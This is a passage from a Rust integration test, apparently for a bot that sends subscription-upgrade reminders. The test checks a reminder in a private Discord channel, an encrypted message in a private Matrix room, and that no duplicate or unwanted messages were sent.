    let channel = wait::until("a private channel", PATIENCE, async || {
        w.discord.private_channel(carol)
    })
    .await?;
    let reminder = wait::until("a reminder", PATIENCE, async || {
        w.discord.messages(channel).pop()
    })
    .await?;
    ensure!(
        reminder
            .content
            .contains(&format!("<t:{}:R>", nearer.as_second()))
            && reminder.content.contains("upgrade subscribe off"),
        "{}",
        reminder.content
    );
    // On Matrix in a room of their own, encrypted as such rooms are.
    let room = wait::until("a private room", PATIENCE, async || {
        let posts = store(&w).await.ok()?.posts("v2").await.ok()?;
        let link = posts
            .into_iter()
            .find(|p| p.channel == "private matrix")?
            .link?;
        link.split("/#/")
            .nth(1)?
            .split('/')
            .next()
            .map(str::to_owned)
    });
    let room = room.await?;
    w.bob.join(&room).await?;
    w.bob
        .wait_for(
            &room,
            |e| e["sender"] == w.user_id.as_str() && e["type"] == "m.room.encrypted",
            PATIENCE,
        )
        .await?;
    ensure!(
        w.discord.private_channel(dave).is_none() && w.discord.messages(channel).len() == 1,
        "once, and not who changed their mind"
    );
    ensure!(
        w.discord.violations().is_empty(),
        "{:?}",
        w.discord.violations()
    );
    Ok(())
}
